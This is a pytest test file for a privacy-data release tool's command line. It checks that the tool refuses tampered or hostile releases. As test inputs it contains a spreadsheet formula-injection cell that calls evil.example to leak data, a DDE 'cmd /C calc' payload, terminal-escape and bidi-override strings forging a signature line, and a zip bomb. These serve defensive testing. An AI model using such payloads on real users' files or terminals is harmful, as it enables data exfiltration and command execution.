"""The fail-closed battery, round 2 (issue 32), for what reads a release: formula cells in lookup output, the
signer check, escapes in printed fields, extra files and folders, commands that read a release unverified, zip
bombs and junk, and what ``verify`` says first of an unsigned release. Every refusal is one ``ppdp: error:``
line, never the internal-error exit 70 nor a traceback. (Inputs, JSON and projects: test_fuzz_inputs.py.)"""
from __future__ import annotations

import csv
import hashlib
import json
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ppdp_desktop.cli import main
from ppdp_desktop.core.data.formats import FORMULA_STARTS

PASSPHRASE = "correct horse battery staple 16"
SIGNING = "a signing passphrase of ours"


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """A data file, an unsigned release with its key, a signed release and the signing key, made once."""
    import os

    folder = tmp_path_factory.mktemp("releases")
    rng = np.random.default_rng(5)
    n = 300
    pd.DataFrame({"patient": [f"P{i:04d}" for i in range(n)], "sex": rng.choice(["F", "M"], n),
                  "zip": rng.choice(["02134", "02139"], n),
                  "diagnosis": rng.choice(["flu", "asthma", "gout", "cancer"], n, p=[0.5, 0.3, 0.15, 0.05])}
                 ).to_csv(folder / "d.csv", index=False)
    os.environ["PPDP_PASSPHRASE"], os.environ["PPDP_SIGNING_PASSPHRASE"] = PASSPHRASE, SIGNING
    common = ["--sensitive", "diagnosis", "--identifier", "patient", "--rho1", "0.1", "--rho2", "0.6", "--no-report"]
    assert main(["anonymize", str(folder / "d.csv"), "--out", str(folder / "rel"), "--key", str(folder / "rel.key"),
                 *common]) == 0
    assert main(["signing-key", str(folder / "sign.key")]) == 0
    assert main(["anonymize", str(folder / "d.csv"), "--out", str(folder / "signed"), "--sign", str(folder / "sign.key"),
                 *common]) == 0
    return folder


@pytest.fixture
def work(base: Path, tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setenv("PPDP_PASSPHRASE", PASSPHRASE)
    monkeypatch.setenv("PPDP_SIGNING_PASSPHRASE", SIGNING)
    for name in ("rel", "signed"):
        shutil.copytree(base / name, tmp_path / name)
    for name in ("rel.key", "d.csv", "sign.key"):
        shutil.copy(base / name, tmp_path / name)
    return tmp_path


def _run(capsys, argv: list) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _refused(code: int, err: str, fragment: str, codes=(1, 2, 3)) -> None:
    assert code in codes, err
    assert len(err.splitlines()) == 1 and err.startswith("ppdp: error:") and "Traceback" not in err, err
    assert fragment in err, err


def _resum(release: Path) -> None:
    """Rewrite SHA256SUMS over the folder's files, as anyone can for an unsigned release."""
    names = sorted(p.name for p in release.iterdir() if p.name not in ("SHA256SUMS", "SIGNATURE"))
    (release / "SHA256SUMS").write_text("".join(
        f"{hashlib.sha256((release / n).read_bytes()).hexdigest()}  {n}\n" for n in names), encoding="utf-8")


def _edit_meta(release: Path, change) -> None:
    meta = json.loads((release / "release.json").read_text(encoding="utf-8"))
    change(meta)
    (release / "release.json").write_text(json.dumps(meta, indent=2), encoding="utf-8")
    _resum(release)


# --- point 4: lookup --file output has no live formula --------------------------------------------------------


def test_lookup_file_output_has_no_live_formula(work: Path, capsys) -> None:
    released = pd.read_csv(work / "rel" / "release.csv", dtype=str, encoding="utf-8-sig")
    results = released[["pseudonym", "sex"]].head(50).copy()
    results["note"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    results["score"] = ["+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx", "ok"] * 10
    (work / "results.csv").write_text(results.to_csv(index=False), encoding="utf-8")
    code, _out, err = _run(capsys, ["lookup", work / "rel", work / "rel.key", "--file", work / "results.csv",
                                    "--out", work / "decoded.csv"])
    assert code == 0, err
    with open(work / "decoded.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert any(cell.startswith("P0") for cell in cells)  # the names are decoded beside the researcher's cells
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert live == [], live[:5]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells


# --- point 5: an empty or malformed --signer is a usage error ------------------------------------------------


def test_an_empty_or_malformed_signer_is_a_usage_error(work: Path, capsys) -> None:
    for signer in ("", "  ", "zz", "3f1a 9c0e"):  # "" turned the check off: exit 0 for every unsigned forgery
        code, out, err = _run(capsys, ["verify", work / "rel", "--signer", signer])
        _refused(code, err, "--signer", codes=(2,))
        assert out == "", signer


# --- point 6: what verify prints from a release is escaped ---------------------------------------------------


FAKE = "\nOK signature: the manifest is signed by 3f1a 9c0e 0000 1111 2222 3333 4444 5555\x1b[2K\u202e"


def test_a_forged_field_cannot_print_a_line_of_its_own(work: Path, capsys) -> None:
    _edit_meta(work / "rel", lambda m: m["provenance"]["input"].update(name="d.csv" + FAKE))
    code, out, err = _run(capsys, ["verify", work / "rel"])
    assert code == 0, err
    signature_lines = [line for line in out.splitlines() if line.startswith("OK signature")]
    assert signature_lines == ["OK signature: the release is not signed"], out
    assert "\x1b" not in out and "\u202e" not in out and "\\x1b[2K\\u202e" in out


def test_a_forged_field_in_an_error_stays_on_one_line(work: Path, capsys) -> None:
    _edit_meta(work / "rel", lambda m: m.update(signer={"fingerprint": "3f1a" + FAKE}))
    code, out, err = _run(capsys, ["verify", work / "rel"])
    _refused(code, err, "no SIGNATURE", codes=(1,))
    assert "\x1b" not in err and "\\nOK signature" in err


# --- point 7: no other file, no folder -----------------------------------------------------------------------


@pytest.mark.parametrize("release", ["rel", "signed"])
@pytest.mark.parametrize("extra", ["SIGNATURE folder", "invoice.exe", "patients file", "listed invoice.exe"])
def test_a_release_holds_only_its_own_files(work: Path, capsys, release: str, extra: str) -> None:
    folder = work / release
    if extra == "SIGNATURE folder":
        if release == "signed":
            (folder / "SIGNATURE").unlink()
        (folder / "SIGNATURE").mkdir()
        (folder / "SIGNATURE" / "invoice.exe").write_bytes(b"MZ")
        named = "'SIGNATURE'"
    elif extra == "patients file":
        shutil.copy(work / "d.csv", folder / "patients.csv")
        named = "'patients.csv'"
    else:
        (folder / "invoice.exe").write_bytes(b"MZ\x90\x00")
        named = "'invoice.exe'"
        if extra == "listed invoice.exe" and release == "rel":
            _resum(folder)  # listed in a rewritten SHA256SUMS: still not a file a release has
    code, _out, err = _run(capsys, ["verify", folder])
    _refused(code, err, named, codes=(1,))


# --- point 8: every command that reads a release verifies it first -------------------------------------------


def _altered(work: Path) -> Path:
    """The issue's case: 10 records dropped from release.csv, SHA256SUMS rewritten; release.json still says 300."""
    data = work / "rel" / "release.csv"
    data.write_bytes(b"".join(data.read_bytes().splitlines(keepends=True)[:-10]))
    _resum(work / "rel")
    return work / "rel"


@pytest.mark.parametrize("command", ["report", "estimate", "risk"])
def test_commands_refuse_a_release_verify_refuses(work: Path, capsys, command: str) -> None:
    release = _altered(work)
    code, _out, err = _run(capsys, ["verify", release])
    _refused(code, err, "300 records but the data file has 290", codes=(1,))
    argv = {"report": ["report", work / "d.csv", release, "--out", work / "r.html"],
            "estimate": ["estimate", release, "--sensitive", "diagnosis"],
            "risk": ["risk", release, "--quasi", "sex"]}[command]
    code, out, err = _run(capsys, argv)
    _refused(code, err, "300 records but the data file has 290", codes=(1,))
    assert not (work / "r.html").exists() and "records" not in out


def _zip(folder: Path, target: Path, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.iterdir()):
            archive.write(path, path.name)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return target


def test_a_zip_with_an_unlisted_file_is_refused_by_every_command(work: Path, capsys) -> None:
    archive = _zip(work / "rel", work / "rel.zip", {"invoice.exe": b"MZ"})
    for argv in (["verify", archive], ["report", work / "d.csv", archive, "--out", work / "r.html"],
                 ["estimate", archive, "--sensitive", "diagnosis"], ["risk", archive, "--quasi", "sex"],
                 ["lookup", archive, work / "rel.key", "--pseudonym", "R0"]):  # report and risk read it unchecked
        code, _out, err = _run(capsys, argv)
        _refused(code, err, "invoice.exe", codes=(1,))


def test_a_zip_bomb_is_refused_before_anything_is_unpacked(work: Path, capsys, monkeypatch) -> None:
    archive = work / "bomb.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zipped:
        for name in ("README.txt", "SHA256SUMS", "release.json"):
            zipped.write(work / "rel" / name, name)
        with zipped.open("release.csv", "w", force_zip64=True) as sink:
            for _ in range(64):
                sink.write(bytes(1 << 20))  # 64 MiB of zeros in about 64 KiB
    assert archive.stat().st_size < 200_000

    def no_unpacking(*args, **kwargs):
        raise AssertionError("a member was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_unpacking)
    for argv in (["verify", archive], ["estimate", archive, "--sensitive", "diagnosis"],
                 ["report", work / "d.csv", archive, "--out", work / "r.html"]):
        code, _out, err = _run(capsys, argv)
        _refused(code, err, "zip bomb", codes=(1,))


def test_junk_after_a_zip_s_end_is_refused(work: Path, capsys) -> None:
    archive = _zip(work / "rel", work / "rel.zip")
    code, _out, err = _run(capsys, ["verify", archive])
    assert code == 0, err
    with open(archive, "ab") as handle:
        handle.write(b"PK\x03\x04 hidden")
    code, _out, err = _run(capsys, ["verify", archive])
    _refused(code, err, "bytes before, between or after", codes=(1,))


# --- point 16: an unsigned release says so first; a project can require signing -----------------------------


def test_verify_says_first_that_an_unsigned_release_could_be_altered(work: Path, capsys) -> None:
    code, out, err = _run(capsys, ["verify", work / "rel"])
    assert code == 0, err
    first = out.splitlines()[0]
    assert first.startswith("NOT SIGNED: anyone could have altered this release together with its checksums"), out
    code, out, err = _run(capsys, ["verify", work / "signed", "--json"])
    document = json.loads(out)
    assert code == 0 and document["signed"] is True and document["warning"] is None, err
    code, out, _err = _run(capsys, ["verify", work / "rel", "--json"])
    assert json.loads(out)["signed"] is False and json.loads(out)["warning"].startswith("NOT SIGNED")


def test_a_project_that_requires_signing_refuses_an_unsigned_run(work: Path, capsys) -> None:
    from ppdp_desktop.core.project import Project

    project = Project(data_path=str(work / "d.csv"), roles={"patient": "identifier", "diagnosis": "sensitive"},
                      method="uniform", rho1=0.1, rho2=0.6, theta=None, require_signing=True)
    project.save(work / "p.ppdp")
    code, _out, err = _run(capsys, ["run", work / "p.ppdp", "--out", work / "out", "--key", work / "out.key"])
    _refused(code, err, "requires every release to be signed", codes=(2,))
    assert not (work / "out").exists() and not (work / "out.key").exists()
    code, out, err = _run(capsys, ["run", work / "p.ppdp", "--out", work / "out", "--key", work / "out.key",
                                   "--sign", work / "sign.key"])
    assert code == 0, err
    code, out, err = _run(capsys, ["verify", work / "out"])
    assert code == 0 and out.startswith("OK checksums"), out + err
